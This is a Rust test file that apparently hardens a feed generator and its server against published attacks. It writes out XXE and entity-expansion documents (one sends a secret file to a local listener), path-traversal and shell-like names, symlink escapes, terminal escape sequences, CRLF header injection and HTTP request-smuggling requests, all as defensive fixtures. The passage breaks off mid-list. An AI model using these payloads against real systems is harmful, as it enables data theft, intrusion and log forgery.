//! What others published against programs like this one, tried on the command and the server. Attacks on what the library
//! does with HTML stand in tests/attack. What was tried is told in docs/reliability.md, and each test looks there.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::fs;
use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::hostile::feedmill_under_watch;
use super::serve::Served;
use super::{Mill, messages, run, text};

#[path = "../attack/told.rs"]
mod told;

/// 2024-05-01T00:00:00Z.
const MAY: i64 = 1_714_521_600_000;
/// What a check or a run may take, in KiB: the largest document here has 14 MiB.
const MEMORY: u64 = 192 << 10;

/// Runs the command in a mill; gives back its code, stdout, stderr, and its peak of memory in KiB.
fn watched(mill: &Mill, args: &[&str]) -> (i32, String, String, u64) {
    let peak = mill.path("peak");
    let (code, stdout, stderr) = run(feedmill_under_watch(&peak).current_dir(mill.path("")).args(args));
    let kib = fs::read_to_string(&peak).unwrap().trim().parse().unwrap();
    (code, stdout, stderr, kib)
}

/// Checks each document by itself: it ends with the finding it should have, or with any where that does not matter, and in
/// little memory.
fn bombs(name: &str, documents: Vec<(&str, Vec<u8>, &str)>) {
    let mill = Mill::new();
    let tried = documents.len();
    for (what, bytes, code) in documents {
        mill.put("bomb.xml", &bytes);
        let args = ["check", "bomb.xml", "--message-format", "json", "--verbose"];
        let (exit, stdout, stderr, kib) = watched(&mill, &args);
        let found: Vec<_> = messages(&stdout).iter().map(|m| text(m, "code").to_owned()).collect();
        let is_right = |c: &String| code.is_empty() || c == code;
        assert!(found.iter().any(is_right), "{what}: {found:?} {stderr}");
        assert!(exit == 0 || exit == 1, "{what}: {exit} {stderr}");
        assert!(kib < MEMORY, "{what}: {kib} KiB");
        println!("{what}: {kib} KiB for {} KiB, {found:?}", bytes.len() >> 10);
    }
    told::row(name, "", tried);
}

fn rss(inside: &str) -> String {
    format!("<rss version=\"2.0\"><channel>{inside}</channel></rss>")
}

const LARGE: usize = 512 << 10;
/// A seed is cleaned, not only read.
const GROWING: usize = 64 << 10;

#[test]
fn xml_that_grows_nests_or_leads_elsewhere_is_read_in_little_memory_and_nothing_is_fetched() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let host = listener.local_addr().unwrap();
    let secret = tempfile::NamedTempFile::new().unwrap();
    fs::write(&secret, "nobody sees this").unwrap();
    let secret = secret.path().to_str().unwrap();

    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let laughs = format!("<!DOCTYPE x [<!ENTITY l0 \"lol\">{laughs}]>{}", rss("<title>&l9;</title>"));
    let entity = "e".repeat(LARGE / 4);
    let quadratic = format!("<!DOCTYPE x [<!ENTITY e \"{entity}\">]>{}", rss(&"&e;".repeat(LARGE / 8)));
    // Each reference is looked for in a long document type.
    let searched = |outside: &str| {
        let names: String = (0..LARGE / 64).map(|n| format!("<!ENTITY n{n} \"x\">")).collect();
        format!("<!DOCTYPE x {outside}[{names}]>{}", rss(&"&n99999;".repeat(LARGE / 32)))
    };
    let outside = |inner: &str| format!("<!DOCTYPE rss [{inner}]>{}", rss("<title>&x;</title>"));
    let prefixes: String = (0..250).map(|n| format!(" xmlns:p{n}='u{n}'")).collect();
    let deep_prefixes =
        format!("<rss version='2.0'>{}", format!("<a{prefixes}>").repeat(190)) + &"<b/>".repeat(LARGE / 16);
    let atom =
        |inside: &str| format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry>{inside}</entry></feed>");
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let utf32 = |text: &str| text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect::<Vec<_>>();

    let documents: Vec<(&str, Vec<u8>, &str)> = vec![
        ("billion laughs", laughs.into(), ""),
        ("quadratic blow-up", quadratic.into(), ""),
        ("references looked for in a document type", searched("").into(), "xml/not-well-formed"),
        ("the same with one outside", searched("SYSTEM 'x.dtd' ").into(), "xml/system-entity"),
        ("entity of itself", outside("<!ENTITY x \"&x;\">").into(), ""),
        ("external entity, file", outside(&format!("<!ENTITY x SYSTEM \"file://{secret}\">")).into(), "xml/system-entity"),
        ("external entity, http", outside(&format!("<!ENTITY x SYSTEM \"http://{host}/x\">")).into(), "xml/system-entity"),
        ("external entity, public", outside(&format!("<!ENTITY x PUBLIC \"p\" \"http://{host}/x\">")).into(), "xml/system-entity"),
        (
            "parameter entity",
            outside(&format!("<!ENTITY % p SYSTEM \"http://{host}/p\">%p;")).into(),
            "",
        ),
        (
            "parameter entities that send a file",
            outside(&format!(
                "<!ENTITY % f SYSTEM \"file://{secret}\"><!ENTITY % s \"<!ENTITY x SYSTEM 'http://{host}/?%f;'>\">%s;"
            ))
            .into(),
            "xml/system-entity",
        ),
        (
            "external document type",
            format!("<!DOCTYPE rss SYSTEM \"http://{host}/rss.dtd\">{}", rss("")).into(),
            "xml/system-entity",
        ),
        (
            "XInclude",
            rss(&format!("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://{host}/x' parse='text'/>")).into(),
            "",
        ),
        (
            "style sheet and schema",
            format!(
                "<?xml-stylesheet type='text/xsl' href='http://{host}/x.xsl'?><rss version='2.0' \
                 xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='a http://{host}/x.xsd'><channel/></rss>"
            )
            .into(),
            "",
        ),
        ("elements in elements", "<a>".repeat(LARGE / 3).into(), "xml/limit"),
        ("elements in an entry", atom(&"<content type='xhtml'><div>".repeat(50_000)).into(), "xml/limit"),
        ("elements in escaped HTML", rss(&format!("<item><description>{}</description></item>", "&lt;b>".repeat(LARGE / 6))).into(), "html/not-well-formed"),
        ("many elements", rss(&"<a/>".repeat(LARGE / 4)).into(), ""),
        ("many items", rss(&"<item/>".repeat(LARGE / 7)).into(), ""),
        ("many runs of text", rss(&"x<a/>".repeat(LARGE / 5)).into(), ""),
        ("a million attributes", format!("<rss{}>", (0..1_000_000).map(|n| format!(" a{n}=''")).collect::<String>()).into(), "xml/limit"),
        ("one attribute a million times", format!("<rss{}>", " a=''".repeat(1_000_000)).into(), "xml/not-well-formed"),
        ("prefixes on the way to each element", deep_prefixes.into(), ""),
        ("a huge name", format!("<{}>", "a".repeat(LARGE)).into(), ""),
        ("a huge attribute", format!("<rss version='{}'/>", "a".repeat(LARGE)).into(), ""),
        ("a huge comment", format!("<!--{}-->{}", "a".repeat(LARGE), rss("")).into(), ""),
        ("a huge text", rss(&format!("<title>{}</title>", "a ".repeat(LARGE / 2))).into(), ""),
        ("a huge number of references", rss(&format!("<title>{}</title>", "&#38;".repeat(LARGE / 5))).into(), ""),
        ("an endless tag", format!("<rss {}", "a".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("an endless comment", format!("<!--{}", "-".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("an endless CDATA section", format!("<rss><![CDATA[{}", "]".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("an endless document type", format!("<!DOCTYPE x [{}", "<!ENTITY".repeat(LARGE / 8)).into(), "xml/not-well-formed"),
        ("an endless instruction", format!("<?x {}", "?".repeat(LARGE)).into(), "xml/not-well-formed"),
        ("a line of brackets", "<".repeat(LARGE).into(), "xml/not-well-formed"),
        ("UTF-16", utf16(&format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{}", rss(&"<a/>".repeat(LARGE / 8)))), ""),
        ("UTF-32", utf32(&format!("<?xml version=\"1.0\" encoding=\"UTF-32\"?>{}", rss(&"<a/>".repeat(LARGE / 16)))), ""),
        ("EBCDIC", [0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40].repeat(1 << 16), ""),
        ("declared EBCDIC", format!("<?xml version='1.0' encoding='IBM037'?>{}", rss("")).into(), "xml/encoding"),
        ("declared UTF-16 that is none", format!("<?xml version='1.0' encoding='UTF-16'?>{}", rss("")).into(), "xml/encoding"),
        ("declared UTF-7", format!("<?xml version='1.0' encoding='UTF-7'?>{}", rss("<title>+ADw-</title>")).into(), "xml/encoding"),
        ("subscriptions in subscriptions", format!("<opml version='2.0'><body>{}", "<outline text='a'>".repeat(LARGE / 18)).into(), "xml/limit"),
    ];
    bombs("XML", documents);
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "nobody asked");
}

#[test]
fn json_that_nests_or_repeats_is_read_in_little_memory() {
    let feed = |inside: &str| {
        format!("{{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"a\",{inside}}}")
    };
    let documents: Vec<(&str, Vec<u8>, &str)> = vec![
        ("arrays in arrays", "[".repeat(LARGE).into(), "json/limit"),
        ("objects in objects", "{\"a\":".repeat(LARGE / 5).into(), "json/limit"),
        (
            "arrays in an item",
            feed(&format!("\"items\":[{{\"_x\":{}", "[".repeat(LARGE))).into(),
            "json/limit",
        ),
        ("many values", feed(&format!("\"items\":[{}1]", "1,".repeat(LARGE / 2))).into(), "json/type"),
        ("too many values", feed(&format!("\"items\":[{}1]", "1,".repeat(4_000_000))).into(), "json/limit"),
        (
            "many items",
            feed(&format!("\"items\":[{}{{}}]", "{},".repeat(LARGE / 16))).into(),
            "json/missing-key",
        ),
        (
            "one key many times",
            feed(&format!("{}\"items\":[]", "\"a\":1,".repeat(LARGE / 32))).into(),
            "json/duplicate-key",
        ),
        (
            "many keys",
            feed(&format!(
                "{}\"items\":[]",
                (0..LARGE / 64).map(|n| format!("\"a{n}\":1,")).collect::<String>()
            ))
            .into(),
            "json/unknown-key",
        ),
        ("a huge number", feed(&format!("\"items\":{}", "9".repeat(LARGE))).into(), "json/type"),
        ("a huge exponent", feed("\"items\":1e999999999999999999999").into(), "json/type"),
        (
            "a huge string",
            feed(&format!("\"items\":\"{}\"", "\\u0041".repeat(LARGE / 6))).into(),
            "json/type",
        ),
        (
            "lone surrogates",
            feed(&format!("\"items\":\"{}\"", "\\ud800".repeat(1000))).into(),
            "json/not-well-formed",
        ),
        (
            "an endless string",
            feed(&format!("\"items\":\"{}", "a".repeat(LARGE))).into(),
            "json/not-well-formed",
        ),
        ("a line of quotes", "[\"".repeat(LARGE / 2).into(), "json/limit"),
        ("comments", format!("{{{}", "/*".repeat(LARGE / 2)).into(), "json/not-well-formed"),
    ];
    bombs("JSON", documents);
}

#[test]
fn what_grows_in_decoding_is_bounded() {
    let head = "<!--1714521600000-->\n[A title](https://news.example/%)\n------\n\n<p>";
    let mut bodies: BTreeMap<&str, Vec<u8>> = BTreeMap::new();
    let bytes = |head: &str, body: &[u8]| [head.as_bytes(), &body.repeat(GROWING / body.len())].concat();
    let wide = |order: fn(u16) -> [u8; 2], body: &str| {
        let text = format!("\u{feff}{head}{}", body.repeat(GROWING / 2 / body.len().max(1)));
        text.encode_utf16().flat_map(order).collect::<Vec<_>>()
    };
    bodies.insert("no UTF-8 at all", bytes(head, b"\xff"));
    bodies.insert("half characters", bytes(head, b"\xe4\xb8x"));
    bodies.insert("overlong forms", bytes(head, b"\xc0\xbcscript\xc0\xbe"));
    bodies.insert("Windows-1252", bytes(head, b"caf\xe9 \x80"));
    bodies.insert("GB18030", bytes(head, b"\x84\x31\xa4\x37"));
    bodies.insert("Shift_JIS", bytes(head, b"\x82\xa0\x83"));
    bodies.insert(
        "ISO-2022-JP",
        bytes(&head.replace("A title", "\u{1b}$B$\"\u{1b}(B"), b"\x1b$B\x1b(B\x1b(J\x1b$@"),
    );
    bodies.insert("EUC-KR", bytes(head, b"\xb0\xa1\xff"));
    bodies.insert("KOI8-R", bytes(head, b"\xcd\xc9\xd2 "));
    bodies.insert("UTF-16LE", wide(u16::to_le_bytes, "一"));
    bodies.insert("UTF-16BE", wide(u16::to_be_bytes, "<b>一"));
    bodies.insert(
        "UTF-16 with lone surrogates",
        [wide(u16::to_le_bytes, "x"), b"\x00\xd8".repeat(GROWING / 4)].concat(),
    );
    bodies.insert("references", bytes(head, b"&#x10FFFF;"));
    bodies.insert("short references", bytes(head, b"&nGt;"));
    bodies.insert("U+FDFA", bytes(head, "ﷺ".as_bytes()));
    let mill = Mill::new();
    for (number, (what, body)) in bodies.iter().enumerate() {
        let _ = fs::remove_dir_all(mill.path("seeds"));
        let link = format!("{number}");
        let at = body.iter().position(|b| *b == b'%').unwrap();
        let body = [&body[..at], link.as_bytes(), &body[at + 1..]].concat();
        mill.put("seeds/1.txt", &body);
        let (code, _, stderr, kib) = watched(&mill, &["--no-catalog", "--message-format", "json"]);
        let skipped = messages(&stderr).iter().any(|m| text(m, "severity") == "error");
        assert!(code == 0 || code == 2 && skipped, "{what}: {code} {stderr}");
        // The bytes, the text, and what is cleaned of it: three times three.
        let limit = MEMORY / 2 + 9 * body.len() as u64 / 1024;
        assert!(kib < limit, "{what}: {kib} KiB of {limit}");
        println!("{what}: {kib} KiB for {} KiB, exit {code}", body.len() >> 10);
        if code == 0 {
            let published: u64 = ["rss.xml", "atom.xml", "feed.json"]
                .iter()
                .map(|f| fs::metadata(mill.path("feeds").join(f)).unwrap().len())
                .sum();
            assert!(published < 64 << 20, "{what}: {published} bytes");
        }
    }
    told::row("Encodings that grow", "", bodies.len());
}

/// Everything below a folder but one, with what it holds; links are not followed.
fn picture(root: &Path, except: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let (mut all, mut folders) = (BTreeMap::new(), vec![root.to_path_buf()]);
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            let kind = path.symlink_metadata().unwrap();
            if path == except {
                continue;
            }
            let content = match () {
                () if kind.is_symlink() => fs::read_link(&path).unwrap().into_os_string().into_vec(),
                () if kind.is_file() => fs::read(&path).unwrap(),
                () => {
                    folders.push(path.clone());
                    vec![]
                }
            };
            all.insert(path, content);
        }
    }
    all
}

#[test]
fn no_name_of_a_folder_or_a_feed_leads_out_of_the_feeds() {
    let names: [&[u8]; 34] = [
        b"...",
        b"..x",
        b"x..",
        b"x.",
        b"x ",
        b" x",
        b"-rf",
        b"~",
        b"~root",
        b"$HOME",
        b"`id`",
        b"%2e%2e",
        b"..\\x",
        b"\\\\host\\share",
        b"C:",
        b"C:x",
        b"con",
        b"NUL.txt",
        b"a\nb",
        b"a\rb",
        b"a\x1b[2Jb",
        b"a\x7fb",
        "a\u{9b}b".as_bytes(),
        "\u{202e}b".as_bytes(),
        b"\xff\xfe",
        b"a\xc0\xafb",
        b"archive",
        b"index.html",
        b"RSS.XML",
        b"feed.json",
        b"feeds",
        b".feedmill",
        b"a[b]|c",
        b"*",
    ];
    let long = vec![b'n'; 255];
    let names: Vec<&[u8]> = names.into_iter().chain([&*long]).collect();
    let mill = Mill::new();
    mill.put("outside/rss.xml", "not yours");
    for (number, name) in names.iter().enumerate() {
        let path = Path::new("work/seeds").join(OsString::from_vec(name.to_vec())).join("1.txt");
        mill.put(path, format!("<!--{MAY}-->\n[t](https://news.example/{number})\n---\n\n<p>x</p>\n"));
    }
    let feeds = mill.path("work/feeds");
    let before = picture(&mill.path(""), &feeds);
    let in_work = |args: &[&str]| run(mill.command(args).current_dir(mill.path("work")));
    let (code, _, stderr) =
        in_work(&["--check", "--archive", "true", "--base-url", "https://news.example/feeds/"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(picture(&mill.path(""), &feeds), before);
    let made = fs::read_dir(&feeds).unwrap().count();
    assert!(made > 20, "most of them are folders like others: {made}");

    // And from the configuration.
    let configured = [
        "..",
        ".",
        "../x",
        "../../etc",
        "/etc",
        "/",
        "//",
        "a/b",
        "a/../../b",
        "a\\\\b",
        "..\\\\x",
        "",
        " ",
        ".hidden",
        ".feedmill",
        "rss.xml",
        "Atom.XML",
        "index.html",
        "feeds.opml",
        "feed.css",
        "a\\u0000b",
        "a\\nb",
        "a\\u001bb",
        "a\\u0085b",
        "%2e%2e%2f",
        "C:",
        "C:\\\\x",
    ];
    for name in configured {
        for table in ["[[feed]]\nname = \"%\"", "[section.\"%\"]\ntitle = 'x'"] {
            mill.put("work/feedmill.toml", table.replace('%', name));
            let before = picture(&mill.path(""), &feeds);
            let (code, _, stderr) = in_work(&[]);
            assert!(code == 0 || code == 2 && stderr.contains("can be a folder"), "{name}: {code} {stderr}");
            assert_eq!(picture(&mill.path(""), &feeds), before, "{name}");
        }
    }
    told::row("Names of folders and feeds", "", names.len() + 2 * configured.len());
}

#[test]
fn nothing_is_written_removed_or_shown_through_a_link() {
    let mill = Mill::new();
    let ours = "<?xml version=\"1.0\"?><rss><channel><generator>feedmill</generator></channel></rss>";
    let outside = mill.path("outside");
    let reset = || {
        let _ = fs::remove_dir_all(mill.path("work"));
        let _ = fs::remove_dir_all(&outside);
        mill.put("outside/rss.xml", ours).put("outside/2020-01/rss.xml", ours).put("outside/mine", "mine");
        mill.put(
            "work/seeds/town/1.txt",
            format!("<!--{MAY}-->\n[t](https://news.example/1)\n---\n\n<p>x</p>\n"),
        );
        fs::create_dir(mill.path("work/feeds")).unwrap();
    };
    let feeds = mill.path("work/feeds");
    let links: [(&str, PathBuf); 9] = [
        ("town", outside.clone()),
        ("archive", outside.clone()),
        ("gone", outside.clone()),
        ("town", "../../outside".into()),
        ("rss.xml", outside.join("rss.xml")),
        ("index.html", outside.join("mine")),
        ("feed.css", outside.join("new")),
        (".feedmill", outside.clone()),
        ("town/rss.xml", outside.join("rss.xml")),
    ];
    let mut tried = 0;
    for (name, to) in &links {
        for prune in [&["--prune"][..], &[]] {
            reset();
            fs::create_dir_all(feeds.join(name).parent().unwrap()).unwrap();
            symlink(to, feeds.join(name)).unwrap();
            let before = picture(&outside, Path::new(""));
            let mut command =
                mill.command(&["--archive", "true", "--base-url", "https://news.example/feeds/"]);
            let (code, _, stderr) = run(command.args(prune).current_dir(mill.path("work")));
            assert!(code == 0 || code == 2 && stderr.contains("link"), "{name}: {code} {stderr}");
            assert_eq!(picture(&outside, Path::new("")), before, "{name}");
            tried += 1;
        }
    }
    // A hard link is another name of a file; the file is replaced, not written to.
    reset();
    for name in ["rss.xml", "feed.json", "feeds.opml"] {
        fs::hard_link(outside.join("mine"), feeds.join(name)).unwrap();
        tried += 1;
    }
    let (code, _, stderr) = run(mill.command(&[]).current_dir(mill.path("work")));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(mill.read("outside/mine"), "mine");
    assert!(mill.read("work/feeds/rss.xml").contains("news.example"));
    // Feeds among the seeds are no seeds, and seeds in a linked folder are none.
    symlink(&outside, mill.path("work/seeds/outside")).unwrap();
    mill.put("outside/2.txt", format!("<!--{MAY}-->\n[t](https://news.example/2)\n---\n\n<p>secret</p>\n"));
    mill.put("work/feedmill.toml", "seeds = '.'\n");
    let (code, _, stderr) = run(mill.command(&[]).current_dir(mill.path("work")));
    assert_eq!(code, 0, "{stderr}");
    assert!(!mill.read("work/feeds/rss.xml").contains("secret"));
    told::row("Links", "", tried + 2);
}

/// What must not come out of a command: control characters but for the line feed, and what turns the direction of writing.
fn risky(text: &str) -> Option<char> {
    text.chars().find(|c| {
        c.is_control() && *c != '\n' || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2028}' | '\u{2029}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn no_output_drives_a_terminal_forges_a_line_or_commands_a_workflow() {
    let marks = [
        "\u{1b}[2J",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}P$q\u{1b}\\",
        "\u{9b}31m",
        "\u{9d}0;x\u{9c}",
        "\u{8}\u{8}",
        "\r",
        "\u{7f}",
        "\u{202e}txt.exe",
        "\u{2066}x\u{2069}",
        "\u{200f}",
        "\u{2028}::error::x",
        "%0A::error::x",
        "%0a",
        "::error file=x::y",
        "##[error]x",
        "\u{b}\u{c}",
        "\u{85}",
    ];
    let mill = Mill::new();
    for (number, mark) in marks.iter().enumerate() {
        let file = mark.replace('/', "_");
        mill.put(format!("seeds/a{file}/b{file}.txt"), format!("<!--x{mark}-->\n[{mark}](ftp://{mark})\n"));
        mill.seed(
            &format!("c{file}.txt"),
            MAY,
            &format!("t{mark}"),
            &format!("ftp://news.example/{number}{mark}"),
            mark,
        );
        mill.seed(
            &format!("d{file}.txt"),
            -1,
            &format!("t{mark}"),
            &format!("https://news.example/{number}"),
            &format!("<p>{mark}</p>"),
        );
        mill.put(
            format!("e{file}.xml"),
            format!("<rss version=\"{mark}\"><{mark}a{mark}=\"{mark}\">&{mark};{mark}</rss>"),
        );
        mill.put(
            format!("f{file}.json"),
            format!("{{\"version\":\"{mark}\",\"{mark}\":1,\"items\":[{{\"url\":\"{mark}\"}}]}}"),
        );
        let opml = format!(
            "<opml version=\"2.0\"><body><outline text=\"{}\" xmlUrl=\"{0}\"/></body></opml>",
            mark.replace('\u{1b}', "&#x9b;")
        );
        mill.put(format!("g{file}.opml"), opml);
    }
    let mut tried = 0;
    let mut silent = |what: &str, (code, stdout, stderr): (i32, String, String)| {
        tried += 1;
        for (name, out) in [("stdout", &stdout), ("stderr", &stderr)] {
            assert_eq!(risky(out), None, "{what} on {name}: {out:?}");
        }
        (code, stdout, stderr)
    };
    for style in ["human", "json", "github", "sarif"] {
        let (_, stdout, stderr) = silent(style, mill.run(&["--verbose", "--message-format", style]));
        assert!(stdout.is_empty() && stderr.matches("seed-bad-link").count() > marks.len() / 2, "{stderr}");
        let (_, stdout, _) = silent(style, mill.run(&["check", ".", "--verbose", "--message-format", style]));
        assert!(stdout.matches("not-well-formed").count() >= marks.len(), "{stdout}");
        if style == "github" {
            for line in stdout.lines().chain(stderr.lines().filter(|line| line.contains("::"))) {
                let (head, message) = line.split_once("title=").unwrap_or_else(|| panic!("{line}"));
                assert!(
                    ["::error ", "::warning ", "::notice "].iter().any(|start| head.starts_with(start)),
                    "{line}"
                );
                // What is decoded there comes from `%`, which is escaped itself.
                assert!(!message.replace("%25", "").contains('%'), "{line}");
            }
        }
        if style == "json" {
            for (out, file) in [(&stderr, "seeds/c"), (&stdout, "./e")] {
                let files: Vec<_> = messages(out).iter().map(|m| text(m, "file").to_owned()).collect();
                for mark in marks.map(|mark| mark.replace('/', "_")) {
                    assert!(
                        files.iter().any(|f| f.starts_with(&format!("{file}{mark}"))),
                        "{mark:?}: names are whole"
                    );
                }
            }
        }
        if style == "sarif" {
            serde_json::from_str::<Value>(&stdout).unwrap();
            serde_json::from_str::<Value>(stderr.lines().next().unwrap()).unwrap();
        }
    }
    for (number, mark) in marks.iter().enumerate() {
        let folder = format!("h{}", mark.replace('/', "_"));
        mill.put(
            format!("{folder}/seeds/{folder}/1.txt"),
            format!("<!--{MAY}-->\n[t](https://news.example/{number})\n---\n\nx\n"),
        );
        let (code, stdout, stderr) = silent("init", mill.run(&["init", &folder]));
        assert!(code == 0 && stdout.contains("in 1 section"), "{stdout}{stderr}");
        silent("init again", mill.run(&["init", &folder]));
        let bad = format!(
            "title = \"{mark}\"\n\"{mark}\" = '{mark}'\nhub = '{mark}'\n[section.\"{mark}\"]\nx = 1\n"
        );
        mill.put(format!("{folder}/feedmill.toml"), bad);
        for style in ["human", "json", "github"] {
            silent(
                "configuration",
                mill.run(&["--config", &format!("{folder}/feedmill.toml"), "--message-format", style]),
            );
        }
        silent("nowhere", mill.run(&["--config", &format!("{mark}.toml")]));
        silent("no rule", mill.run(&["rules", mark]));
        silent("no rule", mill.run(&["check", "--allow", mark, "."]));
        silent("no feed", mill.run(&["check", &format!("nowhere{mark}.xml")]));
        silent("no seeds", mill.run(&["--seeds", &format!("nowhere{mark}")]));
    }
    told::row("Terminals, logs and workflows", "", tried);
}

#[test]
fn the_access_log_has_a_line_for_each_request_whatever_it_holds() {
    for style in ["text", "json"] {
        let mill = Mill::new();
        mill.seed("1.txt", MAY, "t", "https://news.example/1", "x");
        let served = Served::start(&mill, &["--access-log", style]);
        let mut answered = 0;
        let paths = [
            "/\u{9b}31m",
            "/\u{7f}",
            "/%1b[2J",
            "/\u{202e}x",
            "/a\"b=c status=200",
            "/%0d%0aforged",
            "/x\u{1b}[2J",
            "/x\ry",
        ];
        for path in paths {
            for agent in ["x", "\u{9b}31m", "a\" status=200 b=\"", "\\n\\u001b", "\u{202e}x", "x\u{1b}[2J"] {
                let answer = raw(
                    &served,
                    format!(
                        "GET {path} HTTP/1.1\r\nHost: a\r\nUser-Agent: {agent}\r\nConnection: close\r\n\r\n"
                    )
                    .as_bytes(),
                );
                // What is no HTTP at all is not logged.
                answered += usize::from(answer.starts_with("HTTP/1.1 404"));
            }
        }
        let asked = |log: &str| log.lines().filter(|line| line.contains("peer")).count();
        assert!(answered > 10, "{answered}");
        while asked(&mill.read("stdout")) < answered {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        drop(served);
        let log = String::from_utf8(fs::read(mill.path("stdout")).unwrap()).unwrap();
        assert_eq!(risky(&log), None, "{log:?}");
        assert!(!log.lines().any(|line| line.starts_with("forged")));
        if style == "json" {
            log.lines().for_each(|line| drop(serde_json::from_str::<Value>(line).unwrap()));
        }
        assert_eq!(risky(&mill.read("stderr")), None);
    }
    told::row("The access log", "", 2 * 8 * 6);
}

/// Sends bytes as they are; gives back all that comes.
fn raw(served: &Served, bytes: &[u8]) -> String {
    let mut stream =
        TcpStream::connect(served.address.trim_start_matches("http://").trim_end_matches('/')).unwrap();
    stream.set_read_timeout(Some(std::time::Duration::from_secs(60))).unwrap();
    // A server that has had enough hangs up.
    let _ = stream.write_all(bytes);
    let _ = stream.shutdown(Shutdown::Write);
    let mut all = Vec::new();
    let _ = stream.read_to_end(&mut all);
    String::from_utf8_lossy(&all).into_owned()
}

#[test]
fn nothing_configured_makes_a_header_and_no_request_is_two() {
    let evil = "\\r\\nX-Evil: 1\\r\\n\\r\\n<script>alert(1)</script>";
    let keys = ["title", "description", "copyright", "author"];
    let addresses = ["hub", "icon", "site_url"];
    let mut config: String = keys.iter().map(|key| format!("{key} = \"x{evil}\"\n")).collect();
    config.extend(
        addresses.iter().map(|key| format!("{key} = \"https://a.example/{evil}>; rel=\\\"evil\\\"\"\n")),
    );
    config.push_str(&format!(
        "[section.\"town\"]\ntitle = \"x{evil}\"\n[[feed]]\nname = \"<x>\\\"; rel=evil\"\n"
    ));
    let mill = Mill::new();
    mill.put("feedmill.toml", config);
    mill.seed("town/1.txt", MAY, "t", "https://news.example/1", "x");
    let served = Served::start(&mill, &["--no-push"]);
    for path in [
        "/",
        "/rss.xml",
        "/town/atom.xml",
        "/feed.json",
        "/feed.css",
        "/%3Cx%3E%22;%20rel=evil/rss.xml",
        "/metrics",
        "/nowhere",
    ] {
        let answer =
            raw(&served, format!("GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n").as_bytes());
        let head = answer.split("\r\n\r\n").next().unwrap();
        for line in head.lines() {
            let name = line.split([':', ' ']).next().unwrap();
            assert!(
                !name.eq_ignore_ascii_case("x-evil") && !line.contains('<') | line.starts_with("link: "),
                "{path}: {line}"
            );
        }
        if let Some(link) = head.lines().find_map(|line| line.strip_prefix("link: ")) {
            let (hub, own) = link.strip_prefix('<').unwrap().split_once(">; rel=\"hub\", <").unwrap();
            assert!(
                own.ends_with(">; rel=\"self\"")
                    && !format!("{hub}{}", own.trim_end_matches(">; rel=\"self\""))
                        .contains(['<', '>', '"', ' ']),
                "{link}"
            );
        }
        assert!(path == "/nowhere" || head.starts_with("HTTP/1.1 200"), "{path}: {head}");
    }
    let page = mill.read("feeds/index.html");
    let dom = scraper::Html::parse_document(&page);
    assert_eq!(dom.select(&scraper::Selector::parse("script").unwrap()).count(), 1, "its own");

    let smuggled = "GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n";
    let requests: [(&str, String); 21] = [
        (
            "two lengths",
            format!(
                "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n{smuggled}"
            ),
        ),
        (
            "a list of lengths",
            format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0, 44\r\n\r\n{smuggled}"),
        ),
        (
            "a length with a sign",
            format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +0\r\n\r\n{smuggled}"),
        ),
        ("a negative length", format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n{smuggled}")),
        (
            "a huge length",
            format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 18446744073709551616\r\n\r\n{smuggled}"),
        ),
        (
            "length and chunks",
            format!(
                "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "chunks and length",
            format!(
                "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "an unknown coding",
            format!("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ),
        (
            "two codings",
            format!(
                "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "a folded coding",
            format!(
                "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "a space before the colon",
            format!("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ),
        (
            "a huge chunk",
            format!(
